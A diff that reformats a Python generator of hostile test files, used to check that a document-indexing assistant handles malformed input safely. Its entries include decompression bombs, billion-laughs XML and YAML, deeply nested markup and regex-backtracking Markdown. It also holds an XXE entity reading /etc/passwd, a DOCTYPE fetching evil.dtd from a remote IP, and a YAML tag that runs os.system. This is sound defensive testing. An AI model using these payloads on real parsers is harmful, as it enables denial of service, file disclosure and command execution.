@@ -101,14 +101,19 @@ def zip_archive(members: list[tuple[str, bytes | tuple[bytes, int, int]]]) -> by
         fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(data), size)
         out.write(b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded + data)
         central.append(
-            b"PK\x01\x02" + struct.pack("<H", 20) + fields
-            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset) + encoded
-        )  # fmt: skip
+            b"PK\x01\x02"
+            + struct.pack("<H", 20)
+            + fields
+            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
+            + encoded
+        )
     start = out.tell()
     for entry in central:
         out.write(entry)
     size = out.tell() - start
-    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(central), len(central), size, start, 0))
+    out.write(
+        b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(central), len(central), size, start, 0)
+    )
     return out.getvalue()
 
 
@@ -164,13 +169,19 @@ def pdf_pages(contents: list[bytes], filters: str = "/FlateDecode") -> bytes:
             f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
             f" /Resources << /Font << /F1 3 0 R >> >> /Contents {page + 1} 0 R >>"
         ).encode()
-        header = f"<< /Length {len(stream)} /Filter {filters} >>" if filters else f"<< /Length {len(stream)} >>"
+        header = (
+            f"<< /Length {len(stream)} /Filter {filters} >>"
+            if filters
+            else f"<< /Length {len(stream)} >>"
+        )
         objects[page + 1] = header.encode() + b"\nstream\n" + stream + b"\nendstream"
     return pdf_bytes(objects)
 
 
 def good_pdf() -> bytes:
-    return make_pdf([["Permit renewals are handled by the parking office."] * 5] * 3, title="Parking")
+    return make_pdf(
+        [["Permit renewals are handled by the parking office."] * 5] * 3, title="Parking"
+    )
 
 
 def good_docx() -> bytes:
@@ -179,66 +190,150 @@ def good_docx() -> bytes:
 
 # -- PDF -------------------------------------------------------------------------------------
 
-_add("pdf-flate-bomb.pdf", "one FlateDecode stream that inflates to 1 GB",
-     lambda: pdf_pages([deflate_repeated(b"(bomb) Tj " * 1600, 65536, "zlib")[0]]))
-_add("pdf-flate-bomb-pages.pdf", "40 pages of 60 MB streams, each under pypdf's own limit",
-     lambda: pdf_pages([deflate_repeated(b"(AAAAAAAA) Tj " * 4681, 960, "zlib")[0]] * 40))
-_add("pdf-truncated.pdf", "a good PDF cut off at 60%", lambda: good_pdf()[: len(good_pdf()) * 6 // 10])
+_add(
+    "pdf-flate-bomb.pdf",
+    "one FlateDecode stream that inflates to 1 GB",
+    lambda: pdf_pages([deflate_repeated(b"(bomb) Tj " * 1600, 65536, "zlib")[0]]),
+)
+_add(
+    "pdf-flate-bomb-pages.pdf",
+    "40 pages of 60 MB streams, each under pypdf's own limit",
+    lambda: pdf_pages([deflate_repeated(b"(AAAAAAAA) Tj " * 4681, 960, "zlib")[0]] * 40),
+)
+_add(
+    "pdf-truncated.pdf",
+    "a good PDF cut off at 60%",
+    lambda: good_pdf()[: len(good_pdf()) * 6 // 10],
+)
 _add("pdf-no-header.pdf", "random bytes named .pdf", lambda: os.urandom(20_000))
-_add("pdf-nested-arrays.pdf", "a content array nested 100,000 deep",
-     lambda: pdf_bytes({
-         1: b"<< /Type /Catalog /Pages 2 0 R >>",
-         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents "
-            + b"[" * 100_000 + b"]" * 100_000 + b" >>",
-     }))  # fmt: skip
-_add("pdf-page-tree-cycle.pdf", "a page tree whose /Kids contains itself",
-     lambda: pdf_bytes({
-         1: b"<< /Type /Catalog /Pages 2 0 R >>",
-         2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
-         3: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
-     }))  # fmt: skip
-_add("pdf-bad-xref.pdf", "a PDF header over garbage with a lying xref",
-     lambda: b"%PDF-1.7\n" + os.urandom(5000) + b"\nxref\n0 9999999\nstartxref\n12\n%%EOF\n")
-_add("pdf-huge-length.pdf", "a stream that declares a 100 GB /Length",
-     lambda: pdf_pages([b"BT (x) Tj ET"], filters="").replace(b"/Length 11", b"/Length 99999999999"))
-_add("pdf-dict-bomb.pdf", "one object with 200,000 dictionary keys and no pages",
-     lambda: pdf_bytes({
-         1: b"<< /Type /Catalog /Pages 2 0 R >>",
-         2: b"<< " + b"".join(b"/K%d %d " % (i, i) for i in range(200_000)) + b">>",
-     }))  # fmt: skip
-_add("pdf-empty-pages.pdf", "a valid PDF whose pages have no text", lambda: pdf_pages([b""] * 5, filters=""))
+_add(
+    "pdf-nested-arrays.pdf",
+    "a content array nested 100,000 deep",
+    lambda: pdf_bytes(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents "
+            + b"[" * 100_000
+            + b"]" * 100_000
+            + b" >>",
+        }
+    ),
+)
+_add(
+    "pdf-page-tree-cycle.pdf",
+    "a page tree whose /Kids contains itself",
+    lambda: pdf_bytes(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
+            3: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
+        }
+    ),
+)
+_add(
+    "pdf-bad-xref.pdf",
+    "a PDF header over garbage with a lying xref",
+    lambda: b"%PDF-1.7\n" + os.urandom(5000) + b"\nxref\n0 9999999\nstartxref\n12\n%%EOF\n",
+)
+_add(
+    "pdf-huge-length.pdf",
+    "a stream that declares a 100 GB /Length",
+    lambda: pdf_pages([b"BT (x) Tj ET"], filters="").replace(b"/Length 11", b"/Length 99999999999"),
+)
+_add(
+    "pdf-dict-bomb.pdf",
+    "one object with 200,000 dictionary keys and no pages",
+    lambda: pdf_bytes(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< " + b"".join(b"/K%d %d " % (i, i) for i in range(200_000)) + b">>",
+        }
+    ),
+)
+_add(
+    "pdf-empty-pages.pdf",
+    "a valid PDF whose pages have no text",
+    lambda: pdf_pages([b""] * 5, filters=""),
+)
 
 
 # -- DOCX ------------------------------------------------------------------------------------
 
-_add("docx-malformed-xml.docx", "document.xml that is not well-formed",
-     lambda: docx_with(b'<?xml version="1.0"?><w:document ' + W.encode() + b"><w:body><w:p><w:r>"))
-_add("docx-billion-laughs.docx", "nested XML entities (billion laughs)",
-     lambda: docx_with(document_xml(
-         paragraph("&lol9;"),
-         '<!DOCTYPE lolz [<!ENTITY lol "lol">'
-         + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
-         + "]>",
-     )))  # fmt: skip
-_add("docx-xxe.docx", "an external entity that reads /etc/passwd",
-     lambda: docx_with(document_xml(paragraph("&xxe;"), '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')))
-_add("docx-external-dtd.docx", "a DOCTYPE that fetches a DTD from the network",
-     lambda: docx_with(document_xml(paragraph("text"), '<!DOCTYPE d SYSTEM "http://203.0.113.9/evil.dtd">')))
-_add("docx-zip-bomb.docx", "document.xml that inflates to 1 GB",
-     lambda: docx_with(bomb_document_xml()))
-_add("docx-huge-text-node.docx", "one text node of 40 MB",
-     lambda: docx_with(_huge_text_xml()))
-_add("docx-deep-xml.docx", "elements nested 100,000 deep",
-     lambda: docx_with(document_xml("<w:p>" + "<w:r>" * 100_000 + "</w:r>" * 100_000 + "</w:p>")))
-_add("docx-nested-tables.docx", "tables nested 400 deep",
-     lambda: docx_with(document_xml("<w:tbl><w:tr><w:tc>" * 400 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 400)))
-_add("docx-not-a-zip.docx", "plain text named .docx", lambda: b"This is not a Word document at all.\n" * 50)
+_add(
+    "docx-malformed-xml.docx",
+    "document.xml that is not well-formed",
+    lambda: docx_with(b'<?xml version="1.0"?><w:document ' + W.encode() + b"><w:body><w:p><w:r>"),
+)
+_add(
+    "docx-billion-laughs.docx",
+    "nested XML entities (billion laughs)",
+    lambda: docx_with(
+        document_xml(
+            paragraph("&lol9;"),
+            '<!DOCTYPE lolz [<!ENTITY lol "lol">'
+            + "".join(
+                f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+                for i in range(1, 10)
+            )
+            + "]>",
+        )
+    ),
+)
+_add(
+    "docx-xxe.docx",
+    "an external entity that reads /etc/passwd",
+    lambda: docx_with(
+        document_xml(paragraph("&xxe;"), '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
+    ),
+)
+_add(
+    "docx-external-dtd.docx",
+    "a DOCTYPE that fetches a DTD from the network",
+    lambda: docx_with(
+        document_xml(paragraph("text"), '<!DOCTYPE d SYSTEM "http://203.0.113.9/evil.dtd">')
+    ),
+)
+_add(
+    "docx-zip-bomb.docx",
+    "document.xml that inflates to 1 GB",
+    lambda: docx_with(bomb_document_xml()),
+)
+_add("docx-huge-text-node.docx", "one text node of 40 MB", lambda: docx_with(_huge_text_xml()))
+_add(
+    "docx-deep-xml.docx",
+    "elements nested 100,000 deep",
+    lambda: docx_with(document_xml("<w:p>" + "<w:r>" * 100_000 + "</w:r>" * 100_000 + "</w:p>")),
+)
+_add(
+    "docx-nested-tables.docx",
+    "tables nested 400 deep",
+    lambda: docx_with(
+        document_xml(
+            "<w:tbl><w:tr><w:tc>" * 400 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 400
+        )
+    ),
+)
+_add(
+    "docx-not-a-zip.docx",
+    "plain text named .docx",
+    lambda: b"This is not a Word document at all.\n" * 50,
+)
 _add("docx-truncated.docx", "a good DOCX cut in half", lambda: good_docx()[: len(good_docx()) // 2])
-_add("docx-no-document.docx", "a zip without word/document.xml",
-     lambda: zip_archive([("[Content_Types].xml", CONTENT_TYPES.encode()), ("readme.txt", b"hello")]))
-_add("docx-many-members.docx", "a package of 30,000 members",
-     lambda: docx_with(document_xml(paragraph("many")), [(f"junk/{i}.xml", b"<a/>") for i in range(30_000)]))
+_add(
+    "docx-no-document.docx",
+    "a zip without word/document.xml",
+    lambda: zip_archive(
+        [("[Content_Types].xml", CONTENT_TYPES.encode()), ("readme.txt", b"hello")]
+    ),
+)
+_add(
+    "docx-many-members.docx",
+    "a package of 30,000 members",
+    lambda: docx_with(
+        document_xml(paragraph("many")), [(f"junk/{i}.xml", b"<a/>") for i in range(30_000)]
+    ),
+)
 _add("docx-bad-crc.docx", "document.xml whose CRC does not match", lambda: _bad_crc())
 
 
@@ -263,18 +358,46 @@ def _huge_text_xml() -> bytes:
 
 # -- HTML ------------------------------------------------------------------------------------
 
-_add("html-deep-100k.html", "divs nested 100,000 deep",
-     lambda: ("<html><body>" + "<div>" * 100_000 + "deep" + "</div>" * 100_000 + "</body></html>").encode())
-_add("html-deep-unclosed.html", "100,000 unclosed divs",
-     lambda: ("<html><body>" + "<div>x" * 100_000).encode())
-_add("html-nested-tables.html", "tables nested 2,000 deep",
-     lambda: ("<html><body>" + "<table><tr><td>" * 2000 + "cell" + "</td></tr></table>" * 2000 + "</body></html>").encode())
-_add("html-huge-text-node.html", "one paragraph of 3 MB without a space",
-     lambda: ("<html><body><p>" + "x" * (3 * MB) + "</p></body></html>").encode())
-_add("html-unclosed-comments.html", "100,000 comment openers never closed",
-     lambda: ("<html><body><p>Intro text for the page.</p>" + "<!--\n" * 100_000 + "</body></html>").encode())
-_add("html-latin1.html", "bytes that are not UTF-8",
-     lambda: "<html><body><p>Caf\xe9 opening times: 9am \xa3 5</p></body></html>".encode("latin-1"))
+_add(
+    "html-deep-100k.html",
+    "divs nested 100,000 deep",
+    lambda: (
+        "<html><body>" + "<div>" * 100_000 + "deep" + "</div>" * 100_000 + "</body></html>"
+    ).encode(),
+)
+_add(
+    "html-deep-unclosed.html",
+    "100,000 unclosed divs",
+    lambda: ("<html><body>" + "<div>x" * 100_000).encode(),
+)
+_add(
+    "html-nested-tables.html",
+    "tables nested 2,000 deep",
+    lambda: (
+        "<html><body>"
+        + "<table><tr><td>" * 2000
+        + "cell"
+        + "</td></tr></table>" * 2000
+        + "</body></html>"
+    ).encode(),
+)
+_add(
+    "html-huge-text-node.html",
+    "one paragraph of 3 MB without a space",
+    lambda: ("<html><body><p>" + "x" * (3 * MB) + "</p></body></html>").encode(),
+)
+_add(
+    "html-unclosed-comments.html",
+    "100,000 comment openers never closed",
+    lambda: (
+        "<html><body><p>Intro text for the page.</p>" + "<!--\n" * 100_000 + "</body></html>"
+    ).encode(),
+)
+_add(
+    "html-latin1.html",
+    "bytes that are not UTF-8",
+    lambda: "<html><body><p>Caf\xe9 opening times: 9am \xa3 5</p></body></html>".encode("latin-1"),
+)
 _add("html-binary.html", "a PNG named .html", lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(4000))
 
 
@@ -283,52 +406,120 @@ _add("html-binary.html", "a PNG named .html", lambda: b"\x89PNG\r\n\x1a\n" + os.
 BILLION_LAUGHS = "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n" + "".join(
     f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi")
 )
-_add("md-yaml-billion-laughs.md", "YAML aliases that expand to 9^9 items (read as plain text)",
-     lambda: f"---\n{BILLION_LAUGHS}title: *i\n---\n# Laughs\n\nThe tip opens at nine on Sundays.\n".encode(),
-     must_skip=False)
-_add("md-huge-front-matter.md", "5 MB of front matter",
-     lambda: ("---\ntitle: Big\n" + "".join(f"key{i}: {'v' * 40}\n" for i in range(110_000)) + "---\n# Big\n\nBody.\n").encode())
-_add("md-yaml-python-tag.md", "a YAML tag that would run a command if loaded unsafely",
-     lambda: b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/hostile-yaml-ran']\n---\n"
-             b"# Tagged\n\nThe recycling centre opens at eight on Saturdays.\n", must_skip=False)  # fmt: skip
-_add("md-regex-brackets.md", "400 lines of '[': link regexes rescan to the end from each",
-     lambda: ("# Brackets\n\n" + ("[" * 500 + "\n") * 400).encode())
-_add("md-regex-image.md", "'![' and '](' without closers",
-     lambda: ("# Images\n\n" + ("![a](" * 100 + "\n") * 1000).encode())
-_add("md-regex-comments.md", "50,000 unclosed '<!--' lines",
-     lambda: ("# Comments\n\nSome text here for the page.\n" + "<!--\n" * 50_000).encode())
-_add("md-regex-liquid.md", "'{%' and '{{' never closed",
-     lambda: ("# Liquid\n\n" + "{% {{ {: <!-- ![ \n" * 40_000).encode())
-_add("md-regex-emphasis.md", "lines of '** ' without a closing pair",
-     lambda: ("# Emphasis\n\n" + ("** " * 1500 + "\n") * 100).encode())
-_add("md-regex-whitespace.md", "200,000 lines of spaces (anchored \\s* rescans)",
-     lambda: ("# Blank\n\n" + "    \n" * 200_000 + "The end of the page.").encode(), must_skip=False)
-_add("md-regex-table-rule.md", "table-rule look-alike lines of 6,000 characters",
-     lambda: ("# Rules\n\n" + ("| " + "- " * 3000 + "x\n") * 50).encode())
-_add("md-regex-star-heading.md", "'***' lines padded with spaces",
-     lambda: ("# Stars\n\n" + ("*** " + " " * 5000 + "x\n") * 50).encode())
-_add("md-many-headings.md", "50,000 headings",
-     lambda: "".join(f"## Heading {i}\n\nLine {i}.\n\n" for i in range(50_000)).encode())
+_add(
+    "md-yaml-billion-laughs.md",
+    "YAML aliases that expand to 9^9 items (read as plain text)",
+    lambda: (
+        f"---\n{BILLION_LAUGHS}title: *i\n---\n# Laughs\n\nThe tip opens at nine on Sundays.\n".encode()
+    ),
+    must_skip=False,
+)
+_add(
+    "md-huge-front-matter.md",
+    "5 MB of front matter",
+    lambda: (
+        "---\ntitle: Big\n"
+        + "".join(f"key{i}: {'v' * 40}\n" for i in range(110_000))
+        + "---\n# Big\n\nBody.\n"
+    ).encode(),
+)
+_add(
+    "md-yaml-python-tag.md",
+    "a YAML tag that would run a command if loaded unsafely",
+    lambda: (
+        b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/hostile-yaml-ran']\n---\n"
+        b"# Tagged\n\nThe recycling centre opens at eight on Saturdays.\n"
+    ),
+    must_skip=False,
+)
+_add(
+    "md-regex-brackets.md",
+    "400 lines of '[': link regexes rescan to the end from each",
+    lambda: ("# Brackets\n\n" + ("[" * 500 + "\n") * 400).encode(),
+)
+_add(
+    "md-regex-image.md",
+    "'![' and '](' without closers",
+    lambda: ("# Images\n\n" + ("![a](" * 100 + "\n") * 1000).encode(),
+)
+_add(
+    "md-regex-comments.md",
+    "50,000 unclosed '<!--' lines",
+    lambda: ("# Comments\n\nSome text here for the page.\n" + "<!--\n" * 50_000).encode(),
+)
+_add(
+    "md-regex-liquid.md",
+    "'{%' and '{{' never closed",
+    lambda: ("# Liquid\n\n" + "{% {{ {: <!-- ![ \n" * 40_000).encode(),
+)
+_add(
+    "md-regex-emphasis.md",
+    "lines of '** ' without a closing pair",
+    lambda: ("# Emphasis\n\n" + ("** " * 1500 + "\n") * 100).encode(),
+)
+_add(
+    "md-regex-whitespace.md",
+    "200,000 lines of spaces (anchored \\s* rescans)",
+    lambda: ("# Blank\n\n" + "    \n" * 200_000 + "The end of the page.").encode(),
+    must_skip=False,
+)
+_add(
+    "md-regex-table-rule.md",
+    "table-rule look-alike lines of 6,000 characters",
+    lambda: ("# Rules\n\n" + ("| " + "- " * 3000 + "x\n") * 50).encode(),
+)
+_add(
+    "md-regex-star-heading.md",
+    "'***' lines padded with spaces",
+    lambda: ("# Stars\n\n" + ("*** " + " " * 5000 + "x\n") * 50).encode(),
+)
+_add(
+    "md-many-headings.md",
+    "50,000 headings",
+    lambda: "".join(f"## Heading {i}\n\nLine {i}.\n\n" for i in range(50_000)).encode(),
+)
 _add("md-one-line.md", "2 MB on one line", lambda: ("word " * (400_000)).encode())
 _add("md-nul-bytes.md", "NUL bytes in text", lambda: b"# Nul\n\n" + b"\x00" * 1000 + b"text\n")
 _add("md-invalid-utf8.md", "bytes that are not UTF-8", lambda: b"# Bad\n\nCaf\xe9 \xff\xfe text\n")
-_add("md-deep-blockquote.md", "a blockquote nested 100,000 deep",
-     lambda: ("# Quote\n\n" + ">" * 100_000 + " deep\n").encode())
-_add("md-deep-lists.md", "a list nested 1,500 deep",
-     lambda: ("# Lists\n\n" + "".join("  " * i + "- item\n" for i in range(1_500))).encode())
-_add("md-deep-html.md", "HTML nested 100,000 deep inside Markdown",
-     lambda: ("# Deep\n\n" + "<div>" * 100_000 + "deep" + "</div>" * 100_000 + "\n").encode())
-_add("md-nested-tables.md", "HTML tables nested 2,000 deep inside Markdown",
-     lambda: ("# Tables\n\n" + "<table><tr><td>" * 2000 + "cell" + "</td></tr></table>" * 2000).encode())
+_add(
+    "md-deep-blockquote.md",
+    "a blockquote nested 100,000 deep",
+    lambda: ("# Quote\n\n" + ">" * 100_000 + " deep\n").encode(),
+)
+_add(
+    "md-deep-lists.md",
+    "a list nested 1,500 deep",
+    lambda: ("# Lists\n\n" + "".join("  " * i + "- item\n" for i in range(1_500))).encode(),
+)
+_add(
+    "md-deep-html.md",
+    "HTML nested 100,000 deep inside Markdown",
+    lambda: ("# Deep\n\n" + "<div>" * 100_000 + "deep" + "</div>" * 100_000 + "\n").encode(),
+)
+_add(
+    "md-nested-tables.md",
+    "HTML tables nested 2,000 deep inside Markdown",
+    lambda: (
+        "# Tables\n\n" + "<table><tr><td>" * 2000 + "cell" + "</td></tr></table>" * 2000
+    ).encode(),
+)
 _add("md-empty.md", "an empty file", lambda: b"")
 _add("md-whitespace-only.md", "only spaces and newlines", lambda: b" \n\t\n" * 1000)
 
 
 # -- plain text ------------------------------------------------------------------------------
 
-_add("txt-one-line-2mb.txt", "2 MB of words on one line", lambda: ("council " * (2 * MB // 8)).encode())
+_add(
+    "txt-one-line-2mb.txt",
+    "2 MB of words on one line",
+    lambda: ("council " * (2 * MB // 8)).encode(),
+)
 _add("txt-no-spaces-2mb.txt", "2 MB without a space or newline", lambda: b"x" * (2 * MB))
-_add("txt-utf16.txt", "UTF-16 text (NUL bytes)", lambda: "Library opening hours\n".encode("utf-16") * 100)
+_add(
+    "txt-utf16.txt",
+    "UTF-16 text (NUL bytes)",
+    lambda: "Library opening hours\n".encode("utf-16") * 100,
+)
 _add("txt-newlines.txt", "5 MB of newlines", lambda: b"\n" * (5 * MB))
 _add("txt-random.txt", "random bytes named .txt", lambda: os.urandom(50_000))
 
@@ -338,9 +529,12 @@ _add("txt-random.txt", "random bytes named .txt", lambda: os.urandom(50_000))
 _add("wrong-docx-named.pdf", "a DOCX named .pdf", good_docx)
 _add("wrong-pdf-named.docx", "a PDF named .docx", good_pdf)
 _add("wrong-zip-named.html", "a zip named .html", lambda: zip_archive([("a.txt", b"hello")]))
-_add("wrong-markdown-named.txt", "Markdown named .txt",
-     lambda: b"# Street lighting\n\nFaulty street lights are repaired within five working days.\n",
-     must_skip=False)
+_add(
+    "wrong-markdown-named.txt",
+    "Markdown named .txt",
+    lambda: b"# Street lighting\n\nFaulty street lights are repaired within five working days.\n",
+    must_skip=False,
+)
 _add("unsupported.exe", "a file type the assistant does not read", lambda: b"MZ" + os.urandom(1000))
 
 
@@ -397,19 +591,37 @@ def _oversize(path: Path, outside: Path) -> None:
 # -- good files ------------------------------------------------------------------------------
 
 GOOD = [
-    Good("good-garden.md", "The garden waste subscription costs 52 pounds a year.",
-         "How much is the garden waste subscription?"),
-    Good("good-parking.html", "Resident parking permits are renewed every twelve months online.",
-         "How often are resident parking permits renewed?"),
-    Good("good-allotments.docx", "Allotment plots are let each October from the waiting list.",
-         "When are allotment plots let?"),
-    Good("good-libraries.pdf", "Mobile library vans visit each village every third Thursday.",
-         "How often do mobile library vans visit villages?"),
-    Good("good-potholes.txt", "Potholes deeper than forty millimetres are repaired within a week.",
-         "How quickly are deep potholes repaired?"),
-    Good("sub/good-burials.md", "Burial plots in the town cemetery can be reserved for 50 years.",
-         "How long can burial plots be reserved?"),
-]  # fmt: skip
+    Good(
+        "good-garden.md",
+        "The garden waste subscription costs 52 pounds a year.",
+        "How much is the garden waste subscription?",
+    ),
+    Good(
+        "good-parking.html",
+        "Resident parking permits are renewed every twelve months online.",
+        "How often are resident parking permits renewed?",
+    ),
+    Good(
+        "good-allotments.docx",
+        "Allotment plots are let each October from the waiting list.",
+        "When are allotment plots let?",
+    ),
+    Good(
+        "good-libraries.pdf",
+        "Mobile library vans visit each village every third Thursday.",
+        "How often do mobile library vans visit villages?",
+    ),
+    Good(
+        "good-potholes.txt",
+        "Potholes deeper than forty millimetres are repaired within a week.",
+        "How quickly are deep potholes repaired?",
+    ),
+    Good(
+        "sub/good-burials.md",
+        "Burial plots in the town cemetery can be reserved for 50 years.",
+        "How long can burial plots be reserved?",
+    ),
+]
 
 
 def _write_good(folder: Path, good: Good) -> None:
@@ -435,7 +647,9 @@ def write_corpus(folder: Path, outside: Path) -> tuple[list[Hostile], list[Good]
     """Write the good files and every hostile file; ``outside`` gets what symlinks aim at."""
     folder.mkdir(parents=True, exist_ok=True)
     outside.mkdir(parents=True, exist_ok=True)
-    (outside / "secret.md").write_text("# Secret\n\nThe outside folder's secret must never be indexed.\n")
+    (outside / "secret.md").write_text(
+        "# Secret\n\nThe outside folder's secret must never be indexed.\n"
+    )
     for good in GOOD:
         _write_good(folder, good)
     for item in HOSTILE:
